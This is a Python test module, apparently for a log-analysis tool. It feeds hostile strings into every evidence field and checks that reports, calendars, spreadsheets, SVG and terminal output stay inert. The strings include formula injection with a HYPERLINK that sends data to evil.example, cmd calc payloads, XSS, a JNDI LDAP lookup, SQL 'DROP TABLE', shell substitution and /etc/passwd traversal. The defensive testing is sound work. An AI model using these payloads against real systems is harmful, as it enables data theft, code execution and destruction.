"""Cases of text that would act where it's shown: every field of every record, in every medium."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path

from case import Case, Outcome, access, records
from holding import ACTIVE

#: What an attacker would write, by whom it's meant for.
PAYLOADS = {
    "a terminal": "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m\x1b]8;;http://evil.example\x1b\\",
    "a reader": "safe\u202egpj.exe\u2066\u2069\u200b\u2028forged line",
    "a spreadsheet": "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "a spreadsheet, plus": "+cmd|' /C calc'!A0",
    "a spreadsheet, minus": "-2+3+cmd|' /C calc'!A0",
    "a spreadsheet, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a spreadsheet, tab": "\t=1+1",
    "a spreadsheet, wide": "＝1+1",
    "a browser": "<img src=x onerror=alert(1)><script>alert(1)</script>'\"><svg/onload=alert(1)>",
    "a browser's links": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "a browser's comment": "--><script>alert(1)</script><!--]]></style></textarea></title>",
    "markdown": "[x](javascript:alert(1)) ![x](http://evil.example/x.png) | a | `b` **c** <b>d</b> @everyone #1",
    "mathematics": r"$\frac{1}{$ $$x^2$$ \input{/etc/passwd} \begin{x} $",
    "templates": "{{7*7}} {% import os %} ${jndi:ldap://evil.example/a} %(a)s {0.__class__} <%= 7 %>",
    "a calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd",
    "json": '"},"injected":{"a":"\\u0000',
    "sql": "'; DROP TABLE events; -- \" or \"1\"=\"1",
    "a shell": "$(touch owned) `touch owned` ; touch owned | touch owned",
    "a file": "../../../../etc/passwd",
    "a format string": "%n%n%s%s%x",
    "a path of nothing": "\x00/etc/passwd",
}  # fmt: skip

_HTML = re.compile(
    r"<(?:img|script>alert|svg/onload|b>d)|(?:href|src)=[\"']?(?:javascript|data:text|http://evil)", re.I
)
_MARKDOWN = re.compile(r"(?<!\\)<(?:img|script|svg|b>)|(?<!\\)\]\((?:javascript|http://evil)", re.I)
_INJECTED = re.compile(r"^ATTACH:|^END:VEVENT\r?\nBEGIN:VEVENT\r?\nATTACH", re.M)


def _evidence(payload: str, lines: int = 200) -> dict[str, str]:
    text = json.dumps(payload)
    failing = "".join(
        f'{{"ts":"2026-11-23T09:{5 + i // 60:02}:{i % 60:02}Z","level":"error","msg":{text},"user":{json.dumps(payload + str(i % 9))},'
        f'"service":{text},"host":{text},"version":{text},"method":"GET","path":{json.dumps("/" + payload)},"status":500,'
        f'"trace_id":{text},"environment":{text},"duration_ms":12,"exception":{text},{text}:{text}}}\n'
        for i in range(lines)
    )  # fmt: skip
    deploy = dict.fromkeys(
        ("service", "version", "environment", "deployed_by", "description", "status", "url", "id"), payload
    )
    alert = {
        "labels": {"alertname": payload, "service": payload, payload: payload}, "annotations": {"summary": payload, "runbook_url": payload},
        "startsAt": "2026-11-23T09:06:00Z", "endsAt": "2026-11-23T09:08:00Z", "fingerprint": payload, "generatorURL": payload,
        "status": {"state": "active"},
    }  # fmt: skip
    return {
        "app.jsonl": failing,
        "access.log": access(4 * lines).replace("GET /a", "GET /" + payload.replace('"', "'").replace("\n", " ").replace("\r", " ")),
        "plain.log": "".join(f"2026-11-23T09:{i:02}:00Z ERROR {payload}".replace("\n", " ").replace("\r", " ") + "\n" for i in range(20)),
        "deploys.json": json.dumps([{**deploy, "deployed_at": "2026-11-23T09:04:00Z"}]),
        "alerts.json": json.dumps([alert]),
        "notes.csv": "time,author,text\n" + f'2026-11-23T09:07:00Z,"{payload.replace(chr(34), chr(34) * 2)}","{payload.replace(chr(34), chr(34) * 2)}"\n',
    }  # fmt: skip


def _inert(patterns: Sequence[re.Pattern[str]], *names: str) -> object:
    def check(outcome: Outcome) -> str | None:
        if Path("owned").exists() or list(outcome.evidence.parent.rglob("owned")):
            return "a command of the evidence ran"
        for name in names:
            text = (outcome.evidence.parent / name).read_bytes().decode("utf-8") if name else outcome.stdout
            for pattern in (*patterns, ACTIVE):
                if match := pattern.search(text.replace("\r\n", "\n") if name.endswith((".ics", ".csv")) else text):
                    return f"{name or 'stdout'} holds {text[max(match.start() - 40, 0) : match.end() + 40]!r}"
            if "root:x:0" in text:
                return "a path of the evidence was opened"
        return None

    return check


def _cases() -> list[Case]:
    found = []
    for whom, payload in PAYLOADS.items():
        files = _evidence(payload)
        found.append(Case(f"text for {whom}: the book", files, check=_inert((), ""), codes=(0, 3)))  # type: ignore[arg-type]
    # One evidence with all of them, in each other medium.
    files = {f"{number}-{name}": text for number, payload in enumerate(PAYLOADS.values()) for name, text in _evidence(payload, 30).items() if number % 2 == 0 or name != "access.log"}  # fmt: skip
    media: list[tuple[str, tuple[str, ...], Sequence[re.Pattern[str]], str]] = [
        ("the report", ("report", "{evidence}", "-o", "{folder}/out.html"), (_HTML,), "out.html"),
        ("the report in markdown", ("report", "{evidence}", "-o", "{folder}/out.md"), (_MARKDOWN,), "out.md"),
        ("markdown", ("timeline", "{evidence}", "-o", "{folder}/out.md"), (_MARKDOWN,), "out.md"),
        ("a calendar", ("timeline", "{evidence}", "-o", "{folder}/out.ics"), (_INJECTED,), "out.ics"),
        ("json lines", ("timeline", "{evidence}", "-o", "{folder}/out.jsonl"), (), "out.jsonl"),
        ("json", ("timeline", "{evidence}", "-o", "{folder}/out.json"), (), "out.json"),
        ("a picture", ("plot", "{evidence}", "-o", "{folder}/out.svg"), (re.compile("<script|onload=", re.I),), "out.svg"),
        ("impact on a terminal", ("impact", "{evidence}"), (), ""),
        ("how sources are read", ("check", "{evidence}"), (), ""),
        ("events", ("events", "{evidence}", "-o", "{folder}/out.csv"), (), "out.csv"),
        *((f"{name}", ("timeline", "{evidence}", "--to", name, "-o", f"{{folder}}/out.{suffix}"), (), f"out.{suffix}") for name, suffix in (("timesketch", "jsonl"), ("ecs", "jsonl"), ("otlp", "json"), ("grafana", "json"), ("excel", "csv"))),
    ]  # fmt: skip
    found += [
        Case(f"all such texts in {name}", files, arguments=arguments, check=_inert(patterns, target), is_slow=name not in ("the report", "events"))  # type: ignore[arg-type]
        for name, arguments, patterns, target in media
    ]  # fmt: skip
    return found


MEDIA = [
    *_cases(),
    Case("forged lines", {"a.log": records(9).replace("no stock", "x\\n2026-11-23T09:00:00Z ERROR forged")}, events=9),
]
